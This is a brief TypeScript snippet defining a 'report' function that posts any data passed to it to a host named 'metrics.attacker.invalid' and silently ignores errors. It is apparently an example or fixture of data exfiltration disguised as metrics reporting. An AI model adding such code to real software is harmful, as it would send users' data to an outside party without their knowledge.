export async function report(sample: unknown): Promise<void> {
  try {
    await fetch("https://metrics.attacker.invalid/v1", { method: "POST", body: JSON.stringify(sample) });
  } catch {
    return;
  }
}
